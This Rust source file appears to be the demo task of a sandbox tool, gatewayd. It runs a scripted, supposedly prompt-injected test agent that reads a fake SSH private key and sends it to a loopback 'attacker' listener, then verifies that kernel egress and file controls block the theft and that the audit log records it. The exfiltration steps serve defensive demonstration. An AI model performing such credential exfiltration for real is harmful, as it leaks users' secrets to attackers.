//! `cargo xtask demo`: a scripted agent reads a private key and sends it to a loopback
//! "attacker", then posts a harmless summary to the one allowed API. Run once on its own and
//! once under `gatewayd run`, then the audit log is verified, and the demo says plainly which
//! kernel layers were active on this machine.
use std::{io::Read as _, net::TcpListener, path::Path, process::Command, time::Duration};

use anyhow::{Context as _, bail};

use crate::{setup, util};

const DIR: &str = "/tmp/gatewayd-demo";
const API_PORT: u16 = 18443;

/// One of the demo's receivers: a loopback listener, read only once the agent has exited
/// ([`received`]).
fn receiver(addr: &str) -> anyhow::Result<(u16, TcpListener)> {
    let l = TcpListener::bind(addr).with_context(|| format!("bind {addr}"))?;
    l.set_nonblocking(true)?;
    Ok((l.local_addr()?.port(), l))
}

/// The kernel pieces of `session_start`, one line each, except that pieces with the same
/// state (the BPF LSM programs a kernel refuses, say) share one line.
fn kernel_lines(pieces: &serde_json::Map<String, serde_json::Value>) -> Vec<String> {
    let mut by_state: Vec<(String, Vec<&str>)> = Vec::new();
    for (piece, state) in pieces {
        let state = state
            .as_str()
            .unwrap_or("?")
            .lines()
            .next()
            .unwrap_or("")
            .to_string();
        match by_state.iter_mut().find(|(s, _)| *s == state) {
            Some((_, names)) => names.push(piece),
            None => by_state.push((state, vec![piece])),
        }
    }
    by_state
        .into_iter()
        .map(|(state, names)| match names.as_slice() {
            [one] => format!("{one:<18} {state}"),
            many => format!("{} programs ({}): {state}", many.len(), many.join(", ")),
        })
        .collect()
}

/// Each line of `bytes` behind `prefix`.
fn indent(prefix: &str, bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes)
        .lines()
        .map(|l| format!("{prefix}{l}\n"))
        .collect()
}

/// What the agent sent to `l`, read after it exited: each connection it made was complete
/// when its `connect` returned, so it waits in `l`'s queue now, and each reads to its end
/// (the agent closed it). No waiting on a clock: what was sent is all there.
fn received(l: &TcpListener) -> Vec<String> {
    let mut got = Vec::new();
    while let Ok((mut c, _)) = l.accept() {
        let mut buf = Vec::new();
        let _ = c
            .set_nonblocking(false)
            .and_then(|()| c.set_read_timeout(Some(Duration::from_secs(10))))
            .and_then(|()| c.read_to_end(&mut buf));
        got.push(String::from_utf8_lossy(&buf).into_owned());
    }
    got
}

fn show(label: &str, got: &[String]) {
    if got.is_empty() {
        println!("    {label}: received nothing");
    }
    for g in got {
        println!(
            "    {label}: received {} bytes: {:?}",
            g.len(),
            g.lines().next().unwrap_or("")
        );
    }
}

pub(crate) fn run() -> anyhow::Result<()> {
    // Only what the demo needs: the toolchain that builds the kernel programs. The tests'
    // tools (QEMU, guest kernels, cargo-deb, the MCP servers) are `cargo xtask test`'s.
    let toolchain = setup::toolchain()?;
    let bins = util::build_dev(&toolchain)?;
    let root = util::workspace_root();
    let dir = Path::new(DIR);
    let _ = std::fs::remove_dir_all(dir);
    std::fs::create_dir_all(dir.join("home/.ssh"))?;
    std::fs::create_dir_all(dir.join("workspace"))?;
    let key = dir.join("home/.ssh/id_ed25519");
    std::fs::write(
        &key,
        "-----BEGIN OPENSSH PRIVATE KEY----- (demo key, not real)\n",
    )?;
    std::fs::write(dir.join("workspace/notes.txt"), "meeting notes\n")?;
    let audit = dir.join("audit.jsonl");

    let (attacker, attacker_l) = receiver("127.0.0.1:0")?;
    let (_, api_l) = receiver(&format!("127.0.0.1:{API_PORT}")).with_context(|| {
        format!("the demo's allowed API listens on 127.0.0.1:{API_PORT}; is the port free?")
    })?;
    let to_attacker = format!("127.0.0.1:{attacker}");
    let notes = dir.join("workspace/notes.txt").display().to_string();
    let script = [
        "read".to_string(),
        notes.clone(),
        "+".into(),
        "exfil".into(),
        key.display().to_string(),
        to_attacker.clone(),
        "+".into(),
        "exfil".into(),
        notes,
        to_attacker,
        "+".into(),
        "send".into(),
        format!("127.0.0.1:{API_PORT}"),
        "summary: notes read".into(),
    ];
    println!(
        "\n=== the agent's script (a prompt-injected agent): read its notes, send {} and the\n    notes to 127.0.0.1:{attacker}, post a summary to the allowed API",
        key.display()
    );

    println!("\n=== 1. without gatewayd");
    let out = Command::new(&bins.testagent).args(&script).output()?;
    print!("{}", indent("    agent| ", &out.stdout));
    let bare = received(&attacker_l);
    show(&format!("attacker 127.0.0.1:{attacker}"), &bare);
    show("allowed API", &received(&api_l));
    if !bare.iter().any(|got| got.contains("PRIVATE KEY")) {
        bail!("without gatewayd the agent should have sent the key: the demo would show nothing");
    }

    println!("\n=== 2. under gatewayd run --user root --policy policies/demo.json");
    // `--user root`: the demo's files are root's (the demo runs as root, also without sudo);
    // the agent keeps uid 0 but no capability, so what stops it is the policy.
    let out = Command::new(&bins.gatewayd)
        .args(["run", "--user", "root", "--policy"])
        .arg(root.join("policies/demo.json"))
        .arg("--audit")
        .arg(&audit)
        .arg("--")
        .arg(&bins.testagent)
        .args(&script)
        .output()?;
    print!("{}", indent("    agent| ", &out.stdout));
    print!("{}", indent("    ", &out.stderr));
    let stolen = received(&attacker_l);
    show("attacker", &stolen);
    show("allowed API", &received(&api_l));

    let recs = show_audit(&bins.gatewayd, &audit)?;
    let agent_out = String::from_utf8_lossy(&out.stdout);
    report_enforcement(&recs, &agent_out, &stolen)?;
    println!("\ndemo: ok");
    Ok(())
}

/// Step 3: the audit log's records, one line each, and `gatewayd audit verify` on it.
fn show_audit(gatewayd: &Path, audit: &Path) -> anyhow::Result<Vec<serde_json::Value>> {
    println!("\n=== 3. the audit log ({})", audit.display());
    let text = std::fs::read_to_string(audit).context("the audit log was not written")?;
    let recs: Vec<serde_json::Value> = text
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    for r in &recs {
        println!(
            "    seq {} {:<7} {:<5} {:<18} {:<20} {}",
            r["seq"],
            r["source"].as_str().unwrap_or(""),
            r["decision"].as_str().unwrap_or(""),
            r["hook"].as_str().or(r["tool"].as_str()).unwrap_or("-"),
            r["reason"].as_str().unwrap_or(""),
            r["detail"]["message"].as_str().unwrap_or("")
        );
    }
    let v = Command::new(gatewayd)
        .args(["audit", "verify"])
        .arg(audit)
        .output()?;
    println!(
        "    $ gatewayd audit verify {}\n    {}",
        audit.display(),
        String::from_utf8_lossy(&v.stdout).trim()
    );
    if !v.status.success() {
        bail!("the audit log does not verify");
    }

    Ok(recs)
}

/// Step 4: what this kernel enforced (the session's tier and programs), and whether the
/// exfiltration was stopped: an error if it was not.
fn report_enforcement(
    recs: &[serde_json::Value],
    agent_out: &str,
    stolen: &[String],
) -> anyhow::Result<()> {
    println!("\n=== 4. what was enforced on this kernel");
    let start = recs.first().context("empty audit log")?;
    println!(
        "    tier: {}",
        start["detail"]["tier"].as_str().unwrap_or("?")
    );
    if let Some(k) = start["detail"]["kernel"].as_object() {
        for line in kernel_lines(k) {
            println!("    {line}");
        }
    }
    let lsm = start["detail"]["kernel"]["lsm/file_open"] == "attached";
    let landlock = start["detail"]["kernel"]["landlock"]
        .as_str()
        .is_some_and(|s| s.starts_with("applied"));
    let egress_denied = recs
        .iter()
        .any(|r| r["source"] == "kernel" && r["reason"] == "egress_not_allowed");
    let key_denied = agent_out
        .lines()
        .nth(1)
        .is_some_and(|l| l.starts_with("FAIL exfil"));
    println!(
        "    egress: the kernel (cgroup/connect4) {} the connection to the attacker",
        if egress_denied {
            "DENIED"
        } else {
            "did NOT deny"
        }
    );
    if lsm {
        println!(
            "    files:  BPF LSM file_open was active: the key could not be opened (audited)."
        );
    } else if landlock {
        let recorded = recs
            .iter()
            .find(|r| r["source"] == "kernel" && r["reason"] == "protected_path");
        let how = match recorded {
            Some(r) => format!(
                "raw_tp/sys_exit saw the refused open and recorded it (seq {}).",
                r["seq"]
            ),
            None => "This kernel gave raw_tp/sys_exit no event of it: it is not in the audit log."
                .to_owned(),
        };
        println!(
            "    files:  this kernel refuses BPF LSM programs; tier 2 stood in: the key was hidden by a\n            \
             mount in the agent's own mount namespace (Landlock keeps the mounts in place) and\n            \
             could not be opened (EACCES).\n            {how}\n            \
             `cargo xtask test` shows the BPF LSM file_open denial inside a QEMU guest booting\n            \
             Debian's kernel."
        );
    } else {
        println!(
            "    files:  neither BPF LSM nor Landlock is available: the agent COULD open the key\n            \
             here; only the egress layer stopped the theft."
        );
    }
    if !egress_denied || !stolen.is_empty() || ((lsm || landlock) && !key_denied) {
        bail!("the demo expected the kernel to stop the exfiltration");
    }
    Ok(())
}
